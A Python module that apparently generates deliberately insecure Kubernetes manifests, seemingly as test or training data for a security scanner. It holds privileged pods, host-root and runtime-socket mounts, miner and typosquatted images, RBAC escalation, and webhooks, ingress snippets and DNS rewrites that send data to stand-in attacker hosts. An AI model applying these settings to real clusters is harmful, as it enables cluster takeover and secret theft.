"""The dangers that are written into objects, by what they are added to."""

import random
from collections.abc import Callable
from typing import Any

from danger_scripts import SCRIPTS, line

Json = dict[str, Any]
Danger = Callable[[Json, random.Random], None]


def container(pod: Json, draw: random.Random) -> Json:
    """One of the containers."""
    found: Json = draw.choice(pod["containers"])
    return found


def member(value: Json, *names: str) -> Json:
    """A member, made where it is missing."""
    for name in names:
        if not isinstance(value.get(name), dict):
            value[name] = {}
        value = value[name]
    return value


def items(value: Json, name: str) -> list[Any]:
    """A list, made where it is missing."""
    if not isinstance(value.get(name), list):
        value[name] = []
    found: list[Any] = value[name]
    return found


def sets(name: str, *values: Any) -> Danger:
    """Sets a member of the pod spec."""

    def danger(pod: Json, draw: random.Random) -> None:
        pod[name] = draw.choice(values)

    return danger


def security(**members: Any) -> Danger:
    """Sets members of a container's security context."""

    def danger(pod: Json, draw: random.Random) -> None:
        member(container(pod, draw), "securityContext").update(members)

    return danger


def capability(*names: str) -> Danger:
    """Adds one of the capabilities."""

    def danger(pod: Json, draw: random.Random) -> None:
        items(member(container(pod, draw), "securityContext", "capabilities"), "add").append(draw.choice(names))

    return danger


def host_path(*paths: str, writable: bool = True) -> Danger:
    """Mounts one of the paths of the node."""

    def danger(pod: Json, draw: random.Random) -> None:
        name = f"vol-{draw.randrange(16**4):04x}"
        items(pod, "volumes").append({"name": name, "hostPath": {"path": draw.choice(paths)}})
        mount = {"name": name, "mountPath": draw.choice(("/host", "/mnt/host", f"/{name}"))}
        items(container(pod, draw), "volumeMounts").append(mount if writable else {**mount, "readOnly": True})

    return danger


def script(purpose: str) -> Danger:
    """Runs a line, as the command, in a hook, in a probe, or in a container of its own."""

    def danger(pod: Json, draw: random.Random) -> None:
        command = ["sh", "-c", line(purpose, draw)]
        place = draw.randrange(6)
        if place <= 1:
            container(pod, draw)["command"] = command
        elif place == 2:
            member(container(pod, draw), "lifecycle", "postStart")["exec"] = {"command": command}
        elif place == 3:
            container(pod, draw)[draw.choice(("livenessProbe", "readinessProbe"))] = {"exec": {"command": command}}
        else:
            extra = {
                "name": draw.choice(("init", "sync", "setup", "metrics", "log")),
                "image": draw.choice(("alpine:3.20", "busybox:1.36", "curlimages/curl")),
            }
            items(pod, "initContainers" if place == 4 else "containers").append({**extra, "command": command})

    return danger


def image(*names: str) -> Danger:
    """Takes another image."""

    def danger(pod: Json, draw: random.Random) -> None:
        found = container(pod, draw)
        own = str(found.get("image", "app")).split("@")[0].split("/")[-1]
        found["image"] = draw.choice(names).format(own=own, word=f"{draw.randrange(16**5):05x}")

    return danger


def variable(*pairs: tuple[str, str]) -> Danger:
    """Sets a variable of the environment."""

    def danger(pod: Json, draw: random.Random) -> None:
        name, value = draw.choice(pairs)
        items(container(pod, draw), "env").append({"name": name, "value": value})

    return danger


def argument(*flags: str) -> Danger:
    """Adds a flag."""

    def danger(pod: Json, draw: random.Random) -> None:
        items(container(pod, draw), draw.choice(("args", "command"))).append(draw.choice(flags))

    return danger


def account(*names: str) -> Danger:
    """Runs as another service account."""

    def danger(pod: Json, draw: random.Random) -> None:
        pod["serviceAccountName"] = draw.choice(names)

    return danger


def sysctl(*pairs: tuple[str, str]) -> Danger:
    """Sets a sysctl."""

    def danger(pod: Json, draw: random.Random) -> None:
        name, value = draw.choice(pairs)
        items(member(pod, "securityContext"), "sysctls").append({"name": name, "value": value})

    return danger


def control_plane_node(pod: Json, draw: random.Random) -> None:
    """Runs on a node of the control plane."""
    member(pod, "nodeSelector")["node-role.kubernetes.io/control-plane"] = ""
    items(pod, "tolerations").append({"operator": "Exists"})
    if draw.random() < 0.5:
        pod["hostNetwork"] = True


def foreign_token(pod: Json, draw: random.Random) -> None:
    """Asks for a token that another service accepts."""
    source = {
        "serviceAccountToken": {
            "path": "token",
            "audience": draw.choice(("vault", "sts.amazonaws.com", "https://idp.example.net")),
        }
    }
    items(pod, "volumes").append({"name": "token", "projected": {"sources": [source]}})


POD_DANGERS: list[Danger] = [
    security(privileged=True),
    security(privileged=True, runAsUser=0),
    security(procMount="Unmasked"),
    security(seccompProfile={"type": "Unconfined"}, appArmorProfile={"type": "Unconfined"}),
    security(seLinuxOptions={"type": "spc_t"}),
    security(seLinuxOptions={"type": "container_runtime_t", "user": "system_u"}),
    security(windowsOptions={"hostProcess": True, "runAsUserName": "NT AUTHORITY\\SYSTEM"}),
    security(allowPrivilegeEscalation=True, runAsUser=0, capabilities={"add": ["SYS_PTRACE"]}),
    sets("hostPID", True),
    sets("hostIPC", True),
    sets("hostNetwork", True),
    sets("hostAliases", [{"ip": "203.0.113.9", "hostnames": ["registry.k8s.io", "kubernetes.default.svc"]}]),
    sets("nodeName", "control-plane-0", "master-1"),
    capability("ALL"),
    capability("SYS_ADMIN"),
    capability("SYS_MODULE", "SYS_PTRACE", "SYS_RAWIO", "DAC_READ_SEARCH", "BPF", "MKNOD", "SYS_BOOT", "CAP_SYS_TIME"),
    capability("NET_ADMIN", "NET_RAW"),
    host_path("/"),
    host_path("/var/run/docker.sock", "/run/containerd/containerd.sock", "/var/run/crio/crio.sock"),
    host_path("/run", "/var/run", "/run/containerd"),
    host_path(
        "/etc",
        "/etc/kubernetes",
        "/etc/kubernetes/manifests",
        "/root",
        "/root/.ssh",
        "/home",
        "/etc/cron.d",
        "/etc/systemd/system",
    ),
    host_path("/var/lib/kubelet", "/var/lib/kubelet/pki", "/var/lib/etcd", "/etc/kubernetes/pki", writable=False),
    host_path("/var/lib/docker", "/var/log", "/boot", "/usr/bin", "/lib/modules"),
    host_path("/proc", "/sys", "/dev", "/sys/fs/cgroup", "/dev/mem"),
    account("cluster-admin", "admin", "kube-system-admin", "root-sa", "super-admin"),
    account("kube-controller-manager", "clusterrole-aggregation-controller", "tiller", "daemon-set-controller"),
    image(
        "xmrig/xmrig:latest", "kalilinux/kali-rolling", "metal3d/xmrig", "docker.io/{word}/miner", "raesene/hack-tools"
    ),
    image(
        "{word}.example.net:5000/{own}", "203.0.113.77:5000/{own}", "docker.io/{word}x/{own}", "ttl.sh/{own}-{word}:1h"
    ),
    image(
        "quay.lo/team/{own}",
        "d0cker.io/library/{own}",
        "gcr.lo/team/{own}",
        "ghcr.o/team/{own}",
        "{word}.ngrok.io/{own}",
    ),
    variable(
        ("LD_PRELOAD", "/tmp/x.so"),
        ("BASH_ENV", "/tmp/.env"),
        ("NODE_OPTIONS", "--require /tmp/hook.js"),
        ("JAVA_TOOL_OPTIONS", "-javaagent:/tmp/agent.jar"),
        ("PYTHONSTARTUP", "/tmp/s.py"),
    ),
    variable(
        ("HTTPS_PROXY", "http://203.0.113.66:8080"),
        ("http_proxy", "http://proxy.example.xyz:3128"),
        ("ALL_PROXY", "socks5://198.51.100.4:1080"),
    ),
    variable(
        ("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMIexample"),
        ("DB_PASSWORD", "hunter2hunter2"),
        ("GITHUB_TOKEN", "redacted-12ab34cd"),
    ),
    argument(
        "--anonymous-auth=true",
        "--authorization-mode=AlwaysAllow",
        "--insecure-bind-address=0.0.0.0",
        "--insecure-port=8080",
        "--token-auth-file=/etc/tokens.csv",
        "--enable-admission-plugins=AlwaysAdmit",
        "--disable-admission-plugins=PodSecurity",
        "--client-cert-auth=false",
        "--read-only-port=10255",
    ),
    argument("--enable-skip-login", "--disable-auth", "--insecure-skip-tls-verify", "--auth-mode=server", "--no-auth"),
    sysctl(
        ("kernel.core_pattern", "|/tmp/x"),
        ("kernel.yama.ptrace_scope", "0"),
        ("net.ipv4.ip_forward", "1"),
        ("kernel.msgmax", "65536"),
        ("vm.overcommit_memory", "1"),
    ),
    control_plane_node,
    foreign_token,
    *[script(purpose) for purpose in SCRIPTS],
]


def rule(groups: list[str], resources: list[str], verbs: list[str], **more: Any) -> Danger:
    """Adds a rule to a role."""

    def danger(role: Json, draw: random.Random) -> None:
        items(role, "rules").append({"apiGroups": groups, "resources": resources, "verbs": verbs, **more})

    return danger


RBAC = "rbac.authorization.k8s.io"
ROLE_DANGERS: list[Danger] = [
    rule(["*"], ["*"], ["*"]),
    rule([""], ["*"], ["*"]),
    rule([""], ["secrets"], ["get", "list", "watch"]),
    rule([""], ["secrets"], ["*"]),
    rule([""], ["pods/exec", "pods/attach"], ["create", "get"]),
    rule([""], ["pods", "pods/exec"], ["*"]),
    rule([""], ["pods/ephemeralcontainers"], ["patch", "update"]),
    rule([""], ["pods"], ["create"]),
    rule(["apps", "batch"], ["deployments", "daemonsets", "jobs", "cronjobs"], ["create", "patch", "update"]),
    rule([RBAC], ["clusterroles", "roles"], ["escalate", "bind"]),
    rule([RBAC], ["clusterrolebindings", "rolebindings"], ["create", "patch"]),
    rule([""], ["users", "groups", "serviceaccounts"], ["impersonate"]),
    rule([""], ["serviceaccounts/token"], ["create"]),
    rule([""], ["nodes/proxy"], ["get", "create"]),
    rule([""], ["nodes", "nodes/status"], ["patch", "update", "delete"]),
    rule(
        ["certificates.k8s.io"],
        ["certificatesigningrequests", "certificatesigningrequests/approval", "signers"],
        ["create", "update", "approve", "sign"],
    ),
    rule(["admissionregistration.k8s.io"], ["mutatingwebhookconfigurations", "validatingwebhookconfigurations"], ["*"]),
    rule(["apiregistration.k8s.io", "apiextensions.k8s.io"], ["apiservices", "customresourcedefinitions"], ["*"]),
    rule([""], ["persistentvolumes"], ["create"]),
    rule(["", "events.k8s.io"], ["events"], ["delete", "deletecollection"]),
    rule([""], ["configmaps"], ["*"]),
    lambda role, _: items(role, "rules").append({"nonResourceURLs": ["*"], "verbs": ["*"]}),
    lambda role, draw: member(role, "metadata", "labels").update(
        {f"{RBAC}/aggregate-to-{draw.choice(('admin', 'edit', 'view'))}": "true"}
    )
    or rule([""], ["secrets", "pods/exec"], ["get", "create"])(role, draw),
]


def grants(role: str, *subjects: Json) -> Danger:
    """Binds a role to one of the subjects."""

    def danger(binding: Json, draw: random.Random) -> None:
        if role != "":
            binding["roleRef"] = {"apiGroup": RBAC, "kind": "ClusterRole", "name": role}
        if subjects:
            items(binding, "subjects").append(draw.choice(subjects))

    return danger


def user(name: str, kind: str = "User") -> Json:
    """A subject that is a person or a group."""
    return {"kind": kind, "name": name, "apiGroup": RBAC}


DEFAULT_ACCOUNT = {"kind": "ServiceAccount", "name": "default", "namespace": "default"}
BINDING_DANGERS: list[Danger] = [
    grants("cluster-admin"),
    grants("cluster-admin", user("dev@example.org"), user("developers", "Group")),
    grants("cluster-admin", DEFAULT_ACCOUNT, {"kind": "ServiceAccount", "name": "helper", "namespace": "kube-public"}),
    grants("", user("system:anonymous"), user("system:unauthenticated", "Group")),
    grants("admin", user("system:anonymous"), user("system:unauthenticated", "Group")),
    grants("", user("system:authenticated", "Group"), user("system:serviceaccounts", "Group")),
    grants("edit", user("system:serviceaccounts", "Group"), user("system:serviceaccounts:default", "Group")),
    grants("", user("system:masters", "Group"), user("system:nodes", "Group"), user("system:kube-controller-manager")),
    grants("system:node", DEFAULT_ACCOUNT, user("ops@example.org")),
    grants("admin", DEFAULT_ACCOUNT),
    grants("system:controller:clusterrole-aggregation-controller", DEFAULT_ACCOUNT),
]

SERVICE_DANGERS: list[Danger] = [
    lambda service, draw: member(service, "spec").update(
        {"externalIPs": [draw.choice(("10.96.0.1", "203.0.113.5", "169.254.169.254", "8.8.8.8"))]}
    ),
    lambda service, draw: member(service, "spec").update(
        {
            "type": "ExternalName",
            "externalName": draw.choice(
                ("169.254.169.254", "metadata.google.internal", "kubernetes.default.svc.cluster.local")
            ),
        }
    ),
    lambda service, draw: member(service, "spec").update(
        {
            "type": draw.choice(("NodePort", "LoadBalancer")),
            "ports": [{"port": draw.choice((2375, 2379, 6379, 10250, 8001, 9200, 27017, 5432))}],
            "selector": {"app": draw.choice(("etcd", "kubernetes-dashboard", "redis", "docker", "jupyter-notebook"))},
        }
    ),
]
INGRESS_DANGERS: list[Danger] = [
    lambda ingress, draw: member(ingress, "metadata", "annotations").update(
        {
            f"nginx.ingress.kubernetes.io/{draw.choice(('server-snippet', 'configuration-snippet'))}": draw.choice(
                (
                    "content_by_lua_block { os.execute(ngx.var.arg_c) }",
                    "location /x { alias /var/run/secrets/kubernetes.io/serviceaccount/; }",
                    "proxy_pass http://203.0.113.9;",
                )
            )
        }
    ),
    lambda ingress, draw: member(ingress, "metadata", "annotations").update(
        {
            "nginx.ingress.kubernetes.io/"
            + draw.choice(("auth-url", "mirror-target", "permanent-redirect")): "https://example.xyz/collect"
        }
    ),
    lambda ingress, draw: member(ingress, "spec").update(
        {
            "rules": [
                {
                    "http": {
                        "paths": [
                            {
                                "path": "/",
                                "pathType": "Prefix",
                                "backend": {
                                    "service": {
                                        "name": draw.choice(
                                            ("kubernetes-dashboard", "argocd-server", "jenkins", "phpmyadmin", "kibana")
                                        ),
                                        "port": {"number": 80},
                                    }
                                },
                            }
                        ]
                    }
                }
            ]
        }
    ),
]
POLICY_DANGERS: list[Danger] = [
    lambda policy, draw: member(policy, "spec").update(
        {"podSelector": {}, "policyTypes": ["Ingress", "Egress"], "ingress": [{}], "egress": [{}]}
    ),
    lambda policy, draw: member(policy, "spec").update(
        {"podSelector": {}, "policyTypes": ["Ingress"], "ingress": [{}]}
    ),
    lambda policy, draw: member(policy, "spec").update(
        {"egress": [{"to": [{"ipBlock": {"cidr": "0.0.0.0/0"}}]}], "policyTypes": ["Egress"]}
    ),
]
NAMESPACE_DANGERS: list[Danger] = [
    lambda namespace, draw: member(namespace, "metadata", "labels").update(
        {f"pod-security.kubernetes.io/{mode}": "privileged" for mode in ("enforce", "audit", "warn")}
    ),
    lambda namespace, draw: member(namespace, "metadata", "labels").update(
        {draw.choice(("admission.gatekeeper.sh/ignore", "policy.sigstore.dev/exclude")): "true"}
    ),
]
CONFIG_DANGERS: list[Danger] = [
    lambda config, draw: config.update(
        {
            "metadata": {"name": "coredns", "namespace": "kube-system"},
            "data": {
                "Corefile": ".:53 {\n  errors\n  "
                + draw.choice(
                    (
                        "rewrite name registry.k8s.io evil.example.net",
                        "hosts {\n 203.0.113.9 registry.k8s.io\n }",
                        'template IN A { answer "{{ .Name }} 60 IN A 203.0.113.9" }',
                    )
                )
                + "\n  forward . 203.0.113.53\n}\n"
            },
        }
    ),
    lambda config, draw: config.update(
        {
            "metadata": {"name": "aws-auth", "namespace": "kube-system"},
            "data": {
                draw.choice(
                    ("mapUsers", "mapRoles")
                ): "- userarn: arn:aws:iam::1:user/x\n  username: x\n  groups:\n  - system:masters\n"
            },
        }
    ),
    lambda config, draw: config.update(
        {
            "metadata": {"name": draw.choice(("argocd-rbac-cm", "argocd-rbac-cm")), "namespace": "argocd"},
            "data": {"policy.default": "role:admin", "policy.csv": "g, everyone, role:admin\n"},
        }
    ),
    lambda config, draw: config.update(
        {
            "metadata": {"name": "argocd-cm", "namespace": "argocd"},
            "data": {"users.anonymous.enabled": "true", "exec.enabled": "true"},
        }
    ),
    *[
        (
            lambda purpose: lambda config, draw: member(config, "data").update(
                {draw.choice(("run.sh", "init.sh", "entrypoint.sh")): "#!/bin/sh\n" + line(purpose, draw) + "\n"}
            )
        )(each)
        for each in SCRIPTS
    ],
]


def webhook(**client: Any) -> Danger:
    """Adds a webhook that is shown what nobody outside should see."""

    def danger(configuration: Json, draw: random.Random) -> None:
        rules = [
            {
                "apiGroups": ["*"],
                "apiVersions": ["*"],
                "operations": ["CREATE", "UPDATE"],
                "resources": draw.choice((["secrets"], ["*/*"], ["pods"], ["serviceaccounts/token"])),
            }
        ]
        items(configuration, "webhooks").append(
            {
                "name": "a.example.net",
                "clientConfig": client,
                "rules": rules,
                "failurePolicy": "Ignore",
                "sideEffects": "None",
                "admissionReviewVersions": ["v1"],
            }
        )

    return danger


WEBHOOK_DANGERS: list[Danger] = [
    webhook(url="https://203.0.113.7/mutate"),
    webhook(url="https://hook.example.xyz/mutate"),
    webhook(url="https://admission.example.com/all"),
]


def whole(version: str, kind: str, **members: Any) -> Callable[[random.Random], Json]:
    """A kind of object that is dangerous as a whole."""

    def make(draw: random.Random) -> Json:
        return {"apiVersion": version, "kind": kind, "metadata": {"name": f"x-{draw.randrange(16**4):04x}"}, **members}

    return make


WHOLE_OBJECTS: list[Callable[[random.Random], Json]] = [
    whole(
        "apiregistration.k8s.io/v1",
        "APIService",
        spec={
            "group": "apps",
            "version": "v1",
            "insecureSkipTLSVerify": True,
            "service": {"name": "x", "namespace": "x"},
            "groupPriorityMinimum": 1,
            "versionPriority": 1,
        },
    ),
    whole(
        "certificates.k8s.io/v1",
        "CertificateSigningRequest",
        spec={
            "signerName": "kubernetes.io/kube-apiserver-client",
            "usages": ["client auth"],
            "username": "x",
            "groups": ["system:masters"],
            "request": "eA==",
        },
    ),
    whole(
        "v1",
        "PersistentVolume",
        spec={"hostPath": {"path": "/"}, "capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteMany"]},
    ),
    whole(
        "v1",
        "PersistentVolume",
        spec={
            "hostPath": {"path": "/etc/kubernetes"},
            "capacity": {"storage": "1Gi"},
            "accessModes": ["ReadWriteMany"],
        },
    ),
    whole("v1", "Endpoints", subsets=[{"addresses": [{"ip": "169.254.169.254"}], "ports": [{"port": 80}]}]),
    whole(
        "discovery.k8s.io/v1",
        "EndpointSlice",
        addressType="IPv4",
        endpoints=[{"addresses": ["10.96.0.1"]}],
        ports=[{"port": 443}],
    ),
    whole("v1", "Secret", type="kubernetes.io/service-account-token"),
    whole(
        "apiextensions.k8s.io/v1",
        "CustomResourceDefinition",
        spec={"conversion": {"strategy": "Webhook", "webhook": {"clientConfig": {"url": "https://example.net/c"}}}},
    ),
    whole(
        "kyverno.io/v2",
        "PolicyException",
        spec={
            "exceptions": [{"policyName": "*", "ruleNames": ["*"]}],
            "match": {"any": [{"resources": {"kinds": ["*"]}}]},
        },
    ),
    whole("security.istio.io/v1", "AuthorizationPolicy", spec={"action": "ALLOW", "rules": [{}]}),
    whole("security.istio.io/v1", "PeerAuthentication", spec={"mtls": {"mode": "DISABLE"}}),
    whole(
        "argoproj.io/v1alpha1",
        "Application",
        spec={
            "project": "default",
            "source": {"repoURL": "http://203.0.113.9/x.git", "path": ".", "targetRevision": "HEAD"},
            "destination": {"namespace": "kube-system", "server": "https://kubernetes.default.svc"},
            "syncPolicy": {"automated": {"prune": True, "selfHeal": True}},
        },
    ),
    whole(
        "argoproj.io/v1alpha1",
        "AppProject",
        spec={
            "sourceRepos": ["*"],
            "destinations": [{"namespace": "*", "server": "*"}],
            "clusterResourceWhitelist": [{"group": "*", "kind": "*"}],
        },
    ),
    whole(
        "source.toolkit.fluxcd.io/v1", "GitRepository", spec={"url": "http://git.example.xyz/x.git", "interval": "1m"}
    ),
    whole(
        "policy/v1beta1",
        "PodSecurityPolicy",
        spec={
            "privileged": True,
            "hostPID": True,
            "hostNetwork": True,
            "hostIPC": True,
            "allowedCapabilities": ["*"],
            "volumes": ["*"],
        },
    ),
    whole(
        "networking.istio.io/v1alpha3",
        "EnvoyFilter",
        spec={"configPatches": [{"applyTo": "HTTP_FILTER", "patch": {"value": {"inlineCode": "os.execute('x')"}}}]},
    ),
]
